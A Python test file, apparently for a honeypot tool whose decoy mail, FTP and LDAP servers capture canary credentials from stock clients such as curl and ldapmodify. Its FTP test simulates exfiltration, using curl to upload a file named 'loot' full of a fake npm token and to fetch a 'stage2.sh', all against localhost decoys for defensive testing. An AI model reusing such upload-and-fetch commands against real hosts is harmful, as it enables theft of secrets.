"""Mail, files and directories by stock clients, in this process: each logs in and leaves its canary."""

from __future__ import annotations

import asyncio
import smtplib
import ssl
from pathlib import Path

import pytest

from package_hunter.decoy.talks import ftp, imap, ldap, pop3, smtp
from tests.support.requires import needs_program
from tests.support.tables import playing, run

CANARY = "npm_9f3kQ7wXv2LmR8tYb1"
MAIL = f"Subject: report\r\n\r\n..{CANARY}\r\n.\r\nnot the end\r\n"


@pytest.mark.parametrize("tls", [False, True])
def test_curl_sends_mail_and_logs_in(tmp_path: Path, tls: bool) -> None:
    needs_program("curl")
    (tmp_path / "mail").write_text(MAIL.replace("\r\n.\r\n", "\r\n .\r\n"))

    async def go() -> None:
        async with playing(tmp_path, smtp.play, tls) as (house, port):
            code, out = await run(
                "curl", "-sSv", "--ssl-reqd", "--cacert", str(house.ca), "--user", f"me:pw-{CANARY}",
                "--mail-from", "a@b.example", "--mail-rcpt", "c@d.example", "-T", str(tmp_path / "mail"),
                f"{'smtps' if tls else 'smtp'}://localhost:{port}",
            )  # fmt: skip
            assert code == 0, out
            assert f"pw-{CANARY}".encode() in house.heard
            assert f"..{CANARY}\r\n".encode() in (house.clear if tls else house.heard)

    asyncio.run(go())


def test_pythons_smtplib_logs_in_over_starttls(tmp_path: Path) -> None:
    def send(port: int, ca: Path) -> None:
        with smtplib.SMTP("localhost", port) as client:
            client.starttls(context=ssl.create_default_context(cafile=str(ca)))
            client.login("me", f"pw-{CANARY}")
            assert client.sendmail("a@b.example", ["c@d.example"], MAIL) == {}

    async def go() -> None:
        async with playing(tmp_path, smtp.play) as (house, port):
            await asyncio.to_thread(send, port, house.ca)
            assert house.heard.count(CANARY.encode()) >= 2

    asyncio.run(go())


@pytest.mark.parametrize("tls", [False, True])
def test_curl_reads_and_leaves_mail_by_imap(tmp_path: Path, tls: bool) -> None:
    needs_program("curl")
    (tmp_path / "mail").write_text(MAIL)
    where = "imaps" if tls else "imap"

    async def go() -> None:
        async with playing(tmp_path, imap.play, tls) as (house, port):
            base = ["curl", "-sS", "--ssl-reqd", "--cacert", str(house.ca), "--user", f"me:pw-{CANARY}"]
            code, out = await run(*base, f"{where}://localhost:{port}/INBOX;MAILINDEX=2")
            assert (code, "Minutes of Friday" in out) == (0, True), out
            code, out = await run(*base, "-T", str(tmp_path / "mail"), f"{where}://localhost:{port}/Drafts")
            assert code == 0, out
            assert f"pw-{CANARY}".encode() in house.heard
            assert f"..{CANARY}".encode() in (house.clear if tls else house.heard)
            code, out = await run(*base, "--login-options", "AUTH=PLAIN", f"{where}://localhost:{port}/")
            assert (code, "Drafts" in out) == (0, True), out

    asyncio.run(go())


@pytest.mark.parametrize("tls", [False, True])
def test_curl_reads_mail_by_pop3(tmp_path: Path, tls: bool) -> None:
    needs_program("curl")

    async def go() -> None:
        async with playing(tmp_path, pop3.play, tls) as (house, port):
            base = ["curl", "-sS", "--ssl-reqd", "--cacert", str(house.ca), "--user", f"me:pw-{CANARY}"]
            code, out = await run(*base, f"{'pop3s' if tls else 'pop3'}://localhost:{port}/1")
            assert (code, "mailbox is ready" in out) == (0, True), out
            assert f"pw-{CANARY}".encode() in house.heard

    asyncio.run(go())


@pytest.mark.parametrize("how", ["clear", "auth", "implicit"])
def test_curl_uploads_by_ftp(tmp_path: Path, how: str) -> None:
    needs_program("curl")
    (tmp_path / "loot").write_text(f"token {CANARY}\n" * 9_000)
    scheme = "ftps" if how == "implicit" else "ftp"
    more = {"clear": ["--disable-epsv"], "auth": ["--ssl-reqd"], "implicit": []}[how]

    async def go() -> None:
        async with playing(tmp_path, ftp.play, how == "implicit") as (house, port):
            base = ["curl", "-sS", "--cacert", str(house.ca), "--user", f"me:pw-{CANARY}", *more]
            code, out = await run(*base, "-T", str(tmp_path / "loot"), f"{scheme}://localhost:{port}/in/loot")
            assert code == 0, out
            heard = house.clear if how == "clear" else house.heard
            assert heard.count(f"token {CANARY}\n".encode()) == 9_000
            assert f"pw-{CANARY}".encode() in house.clear + house.heard
            for path in ("in/", "in/stage2.sh"):
                code, out = await run(*base, f"{scheme}://localhost:{port}/{path}")
                assert code == 0, out

    asyncio.run(go())


@pytest.mark.parametrize("tls", [False, True])
def test_directories_are_bound_to_and_changed(tmp_path: Path, tls: bool) -> None:
    needs_program("ldapmodify")
    entry = (
        f"dn: cn=a,dc=example,dc=com\nchangetype: add\nobjectClass: device\ncn: a\ndescription: {CANARY}\n"
    )
    bound = ["-x", "-D", "cn=me,dc=example,dc=com", "-w", f"pw-{CANARY}"]

    async def go() -> None:
        async with playing(tmp_path, ldap.play, tls, "127.0.0.1") as (house, port):
            at = ["-H", f"ldaps://127.0.0.1:{port}"] if tls else ["-ZZ", "-H", f"ldap://127.0.0.1:{port}"]
            ca = {"LDAPTLS_CACERT": str(house.ca)}
            code, out = await run("ldapmodify", *at, *bound, stdin=entry.encode(), **ca)
            assert code == 0, out
            code, out = await run("ldapsearch", *at, *bound, "-b", "dc=example,dc=com", "(uid=x)", **ca)
            assert (code, "result: 0 Success" in out) == (0, True), out
            code, out = await run("ldapsearch", *at, *bound, "-s", "base", "-b", "", "+", **ca)
            assert (code, "namingContexts: dc=example,dc=com" in out) == (0, True), out
            heard = house.clear if tls else house.heard
            assert f"pw-{CANARY}".encode() in heard
            assert heard.count(CANARY.encode()) >= 2

    asyncio.run(go())
